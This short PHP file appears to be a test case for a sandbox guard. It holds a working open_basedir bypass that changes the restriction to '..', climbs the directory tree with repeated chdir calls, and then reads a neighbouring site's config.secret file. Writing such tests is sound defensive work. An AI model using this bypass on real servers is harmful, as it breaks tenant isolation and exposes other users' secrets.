<?php
$attack = static function (object $given): mixed {
    $given->mustBeGuarded();
    // Of a directory two levels down, ".." is within the limits; of the root that it leads to, it is
    // not checked any more (until PHP 8.3, which takes no ".." at run time).
    mkdir("{$given->drop}/a");
    chdir("{$given->drop}/a");
    ini_set('open_basedir', '..');
    for ($level = 0; $level < 16; $level++) {
        chdir('..');
    }
    ini_set('open_basedir', '/');
    return file_get_contents("{$given->neighbour}/config.secret");
};
